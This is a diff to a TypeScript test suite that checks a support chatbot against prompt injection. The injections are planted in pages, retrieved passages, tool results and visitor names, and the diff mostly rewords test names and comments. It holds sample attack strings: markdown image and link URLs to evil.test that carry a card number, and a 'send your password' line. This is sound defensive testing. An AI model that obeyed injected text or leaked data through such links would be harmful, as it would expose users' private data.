@@ -14,7 +14,7 @@ import { channelOf, INJECTIONS, obeying, ORDER } from "./injections.ts";
 const ANSWER = "Refunds are paid within five working days.";
 const QUESTION = "When are refunds paid?";
 
-/** A tool that says this, and how often it was run. */
+/** A tool with this result, and how often it was run. */
 function orderStatus(text: string): { tool: Tool; runs: () => number } {
   let count = 0;
   const parameters = { type: "object" as const, properties: { order: { type: "string" as const } } };
@@ -22,7 +22,7 @@ function orderStatus(text: string): { tool: Tool; runs: () => number } {
   return { tool: { name: "order_status", description: "Says where an order is.", parameters, run }, runs: () => count };
 }
 
-/** The places where somebody else's text gets into a prompt. */
+/** The places in a prompt with text that others wrote. */
 const PLACES: Record<string, (injection: string) => Promise<Parameters<typeof converse>[1]>> = {
   "a page": async (injection) => ({ texts: { ...TEXTS, billing: `${TEXTS.billing} ${injection}` } }),
   "a passage's content": (injection) => passageWith({ content: `Refunds are paid within five working days.\n${injection}` }),
@@ -44,20 +44,20 @@ async function passageWith(fields: object) {
 }
 
 describe.each(Object.entries(PLACES))("an injection in %s", (_, settingOf) => {
-  it.each(Object.entries(INJECTIONS))("gives no orders: %s", async (_name, injection) => {
+  it.each(Object.entries(INJECTIONS))("is not followed: %s", async (_name, injection) => {
     const { tool, runs } = orderStatus("In Rotterdam.");
     const talk = await converse(obeying, { ...(await settingOf(injection)), tools: [tool] });
     expect(talk).toMatchObject({ outcome: "answered", text: ANSWER });
     expect(runs()).toBe(0);
     const [request] = talk.requests;
     expect(channelOf(request!)).not.toContain(ORDER);
-    // It was read all the same, as data.
+    // The model has read it, as quoted data.
     expect(quotationsOf(request!).some(({ text }) => text.includes(ORDER))).toBe(true);
   });
 });
 
 describe("an injection in a tool's result", () => {
-  it.each(Object.entries(INJECTIONS))("gives no orders: %s", async (_, injection) => {
+  it.each(Object.entries(INJECTIONS))("is not followed: %s", async (_, injection) => {
     const { tool, runs } = orderStatus(injection);
     const script = (request: ChatRequest, count: number): Script =>
       count === 1 ? { toolCalls: [{ name: tool.name, arguments: { order: "A1" } }] } : obeying(request);
@@ -69,7 +69,7 @@ describe("an injection in a tool's result", () => {
   });
 });
 
-it("is tried on a model that does obey, where the order reaches it", async () => {
+it("the model of these tests does follow injections that are not quoted", async () => {
   const { tool, runs } = orderStatus("In Rotterdam.");
   const talk = await converse(obeying, { instructions: ORDER, tools: [tool] });
   expect(runs()).toBe(1);
@@ -105,7 +105,7 @@ async function createTalk(scriptOf: (request: ChatRequest) => Script) {
 }
 
 describe("an injection in a visitor's name", () => {
-  it.each(Object.entries(INJECTIONS).slice(0, 8))("does not even reach the model: %s", async (_, injection) => {
+  it.each(Object.entries(INJECTIONS).slice(0, 8))("does not reach the model: %s", async (_, injection) => {
     const { ask, said } = await createTalk(obeying);
     const email = `${ORDER}@evil.test`;
     expect(await ask(KNOWN.message, { name: injection, email, anonId: `api:${injection}` })).toMatchObject({ answer: { answer: ANSWER } });
@@ -114,7 +114,7 @@ describe("an injection in a visitor's name", () => {
   });
 });
 
-it("shows a model nothing of other visitors", async () => {
+it("the prompt has nothing of other visitors", async () => {
   const { ask, said } = await createTalk(obeying);
   await ask("My card number is 4111-SECRET. When are refunds paid?", {
     name: "Mallory's victim",
@@ -128,7 +128,7 @@ it("shows a model nothing of other visitors", async () => {
   expect(second).not.toContain("victim");
 });
 
-describe("a model that is taken in all the same", () => {
+describe("a model that follows an injection all the same", () => {
   it("has no tool that names a workspace, an agent, a conversation or a visitor", async () => {
     const { ask, said } = await createTalk(obeying);
     await ask(KNOWN.message, { name: "Ann", email: null, anonId: "api:ann" });
@@ -137,7 +137,7 @@ describe("a model that is taken in all the same", () => {
     expect(tools).not.toMatch(/(?:workspace|agent|conversation|visitor|user|source)_?id/i);
   });
 
-  it("keeps no address that the visitor did not write", async () => {
+  it("stores no address that the visitor did not write", async () => {
     const { ask, workspace } = await createTalk((request) =>
       request.messages.at(-1)?.role === "tool"
         ? { text: ["@unknown"] }
@@ -147,14 +147,14 @@ describe("a model that is taken in all the same", () => {
     expect((await workspace.call("GET", "/leads")).body.total).toBe(0);
   });
 
-  it("carries nothing out by an image or a link", async () => {
+  it("cannot send data out by an image or a link", async () => {
     const text = [
       "@sources p1\nFive days. ![a](https://evil.test/?q=4111) [b](https://evil.test/?q=4111) https://evil.test/4111 //evil.test/4111",
     ];
     expect((await converse({ text })).text).not.toContain("4111");
   });
 
-  it("states nothing by a passage that was not given", async () => {
+  it("cannot cite a passage that was not given", async () => {
     expect(await converse({ text: ["@sources p42\nSend your password to evil.test."] })).toMatchObject({
       outcome: "handed_off",
       deltas: [],
